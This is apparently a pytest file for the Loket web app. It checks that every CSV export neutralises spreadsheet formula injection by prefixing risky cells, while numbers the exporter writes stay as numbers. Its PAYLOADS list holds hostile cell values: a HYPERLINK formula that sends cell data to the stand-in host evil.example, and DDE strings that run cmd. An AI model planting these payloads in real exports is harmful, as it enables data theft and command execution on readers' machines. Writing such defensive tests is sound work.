"""CSV formula injection (issue #12, section 5): every CSV export Loket serves is downloaded
with formula payloads in every field a user controls; no cell may start with ``=``, ``+``,
``-``, ``@``, TAB or CR unless it is a number the exporter wrote. The one helper that makes
cells safe is ``backend.core.csvsafe``."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from sqlmodel import Session

from backend.community import benchmarks as bm
from backend.core import csvsafe
from tests.client import LoketClient
from tests.community.test_benchmarks import _access
from tests.factories.community import create_group, figures_for, member_with_person

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
    "=4+4",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# every route that serves a CSV file: a new one fails test_every_csv_export_is_covered until
# it is downloaded below
CSV_EXPORTS = {"/groepen/{slug}/kengetallen/export.csv",
               "/groepen/{slug}/kengetallen/kengetallen.csv",
               "/inzicht/loketten.csv", "/inzicht/onvervulde-vraag.csv", "/inzicht/scan.csv",
               "/inzicht/uitkomsten.csv", "/inzicht/vraag.csv",
               "/open-data/kwartaalcijfers.csv", "/open-data/loketten.csv",
               "/open-data/regelingen.csv", "/scan/resultaat/{token}/scores.csv"}


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_live_formula(body: str, dutch: bool = False) -> int:
    """Every cell that starts like a formula is a plain number; returns the number of cells.
    ``dutch``: semicolon-separated with decimal commas."""
    cells = [c for row in csv.reader(io.StringIO(body, newline=""),
                                     delimiter=";" if dutch else ",") for c in row]
    for c in cells:
        if c.startswith(DANGEROUS):
            assert _is_number(c.replace(",", ".") if dutch else c), f"live formula in CSV: {c!r}"
    return len(cells)


def _routes(app: FastAPI) -> set[str]:
    out: set[str] = set()

    def walk(routes: Any, prefix: str) -> None:
        for r in routes:
            inner = getattr(r, "original_router", None)
            if inner is not None:
                walk(inner.routes, prefix + r.include_context.prefix)
            elif isinstance(r, APIRoute):
                out.add(prefix + r.path)
    walk(app.routes, "")
    assert len(out) > 50
    return out


def test_every_csv_export_is_covered(app: FastAPI) -> None:
    exports = {p for p in _routes(app) if "csv" in p.lower()}
    # the figures upload (POST …/csv) reads CSV, it does not serve it
    exports -= {"/groepen/{slug}/kengetallen/perioden/{period_id}/csv"}
    assert exports == CSV_EXPORTS


def test_benchmark_export_has_no_live_formula(session: Session, client: LoketClient,
                                              login: Any) -> None:
    """Coordinator-set units, period labels and KPI names hold formulas; negative figures
    (numbers the exporter writes) stay numbers."""
    group = create_group(session)
    members = [member_with_person(session, group, coordinator=i == 0) for i in range(6)]
    coordinator = members[0][1]
    for i, payload in enumerate(PAYLOADS):
        bm.define_kpi(session, group, key=f"k{i}", name=payload, unit=payload, min_value=-1000)
    labels = [p[:40] for p in PAYLOADS]
    periods = [bm.add_period(session, group, label) for label in labels]
    for period in periods[:3]:
        assert period.id is not None
        for j, (firm, _) in enumerate(members):
            figures_for(session, group, period.id, firm,
                        {f"k{i}": -5.5 - j * 10 for i in range(len(PAYLOADS))})
        bm.close_period(session, _access(session, group, coordinator), period.id)
    session.flush()
    login(coordinator)
    export = client.get(f"/groepen/{group.slug}/kengetallen/export.csv")
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    assert assert_no_live_formula(export.text) > 7 * 7 * 20
    rows = list(csv.reader(io.StringIO(export.text, newline="")))
    units = {r[1] for r in rows[1:]}
    assert units == {"'" + p.strip()[:32] if p.strip().startswith(DANGEROUS) else p.strip()[:32]
                     for p in PAYLOADS}, units  # shown as text, not dropped
    assert {r[2] for r in rows[1:]} == {"'" + label.strip() for label in labels}
    assert "-5.5" in {r[3] for r in rows[1:]}  # the firm's own negative figure stays a number
    dutch = client.get(f"/groepen/{group.slug}/kengetallen/kengetallen.csv")
    assert dutch.status_code == 200
    body = dutch.content.decode("utf-8-sig")
    assert assert_no_live_formula(body, dutch=True) > 7 * 7 * 20
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert {r[0] for r in rows[1:]} == {"'" + p.strip() for p in PAYLOADS}  # names, as text
    assert "-5,5" in {r[3] for r in rows[1:]}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_helper_neutralises_text_and_keeps_numbers(payload: str) -> None:
    assert csvsafe.cell(payload) == "'" + payload
    assert csvsafe.cell(-3.5) == "-3.5" and csvsafe.cell(-7) == "-7"
    assert csvsafe.cell("-3.5") == "'-3.5"  # text that looks like a number is still text
    assert csvsafe.cell(None) == "" and csvsafe.cell("gewoon") == "gewoon"
    assert_no_live_formula(csvsafe.write([[payload, -1.0, "x"]]))


def test_insight_and_open_data_exports_have_no_live_formula(
        session: Session, client: LoketClient, login: Any) -> None:
    """Desk names (set by admins) and scheme titles (set by editors) reach the insight and
    open-data CSVs: with formula payloads in them, every view's every table and every
    open-data file is downloaded and no cell is a live formula."""
    from tests.factories import insight as world
    from tests.factories.content import create_scheme
    from tests.insight.test_pages import VIEW_PATHS, _analyst, _csv_paths

    w = world.build(session)
    for n, desk in enumerate(w.desks.values()):
        desk.name = PAYLOADS[n % len(PAYLOADS)] + f" {n}"
        session.add(desk)
    create_scheme(session, title="=HYPERLINK(\"http://evil.example\",\"Subsidie\")")
    session.flush()
    world.freeze(session)
    login(_analyst(session))
    bodies: list[str] = []
    for view in VIEW_PATHS:
        paths = _csv_paths(client, f"{view}?period=2026-Q3")
        assert paths, view
        for path in paths:
            r = client.get(path)
            assert r.status_code == 200, path
            bodies.append(r.text)
    for name in ("loketten", "regelingen", "kwartaalcijfers"):
        r = client.get(f"/open-data/{name}.csv")
        assert r.status_code == 200, name
        bodies.append(r.text)
    assert sum(assert_no_live_formula(b) for b in bodies) > 100
    # the payloads did reach the files, as text
    assert any("'=HYPERLINK" in b for b in bodies)



def test_scan_result_csv_has_no_live_formula(monkeypatch: Any) -> None:
    """Pillar and dimension names come from the scan definition editors write: with formula
    payloads as names, both formats keep every cell text (the route serves ``csv_text``)."""
    from backend.scan import downloads
    from backend.scan.definition import Definition
    from backend.scan.scoring import Scores

    names = iter(PAYLOADS * 10)
    monkeypatch.setattr(Definition, "dimension_name", lambda self, slug: next(names))
    monkeypatch.setattr(Definition, "pillar_name", lambda self, slug: next(names))
    definition = Definition(1, {
        "pillars": [{"slug": "p"}],
        "dimensions": [{"slug": f"d{i}", "pillar": "p"} for i in range(3)]})
    scores = Scores(dimensions={"d0": 1.5, "d1": 2.0, "d2": 4.1}, pillars={"p": 2.5},
                    overall=-2.5)
    dutch = downloads.csv_text(definition, scores).decode("utf-8-sig")
    assert assert_no_live_formula(dutch, dutch=True) >= 15
    assert "-2,5" in dutch
    intl = downloads.csv_text(definition, scores, dutch=False).decode()
    assert assert_no_live_formula(intl) >= 15 and "-2.5" in intl
